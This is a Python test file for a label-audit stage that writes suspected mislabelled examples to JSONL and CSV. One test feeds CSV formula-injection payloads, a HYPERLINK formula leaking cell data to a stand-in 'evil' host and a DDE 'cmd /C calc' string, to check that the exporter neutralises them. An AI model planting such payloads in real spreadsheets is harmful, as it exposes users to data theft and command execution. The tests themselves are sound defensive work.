import csv
from pathlib import Path

import pytest

from components.evaluation.label_audit import Audit, Suspect
from components.records import read_jsonl, read_record, write_jsonl
from components.stages.audit import audit, audit_folder, write_table
from components.tracking import NullTracker
from tests.components.stages.conftest import MakeRun, example


def test_suspects_are_written_with_a_column_for_peoples_answers(make_run: MakeRun) -> None:
    run = make_run()
    wrong = {f"train-{number:03}" for number in (7, 20, 33)}
    shown = [
        each.model_copy(update={"demonstration": example(int(each.id[-3:]) + 1).reference})
        if each.id in wrong
        else each
        for each in (example(number, "train") for number in range(60))
    ]
    write_jsonl(run.folder / "data" / "train.jsonl", shown)
    audit(run, NullTracker())
    listed = read_jsonl(audit_folder(run) / "suspects.jsonl", Suspect)
    assert wrong <= {each.example_id for each in listed if each.field == "intent"}
    figures = read_record(audit_folder(run) / "audit.json", Audit)
    assert (figures.demonstrations, figures.suspects) == (60, len({each.example_id for each in listed}))
    assert figures.ceiling == 1 - figures.expected_wrong / 60
    with (audit_folder(run) / "suspects.csv").open(encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["example_id"] for row in rows] == [each.example_id for each in listed]
    assert {row["right_value"] for row in rows} == {""}


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),
        ("+49", "+49"),
        ("late = bad", "late = bad"),
    ],
)
def test_no_cell_of_the_table_is_a_formula_in_a_spreadsheet(text: str, cell: str, tmp_path: Path) -> None:
    suspect = Suspect(example_id=text, field=text, value=text, suggested=text, probability=0.5, reason=text, text=text)
    write_table(tmp_path / "suspects.csv", [suspect])
    with (tmp_path / "suspects.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["probability"] == "0.5" and row["right_value"] == ""
    assert {row[name] for name in ("example_id", "field", "value", "suggested", "reason", "text")} == {cell}
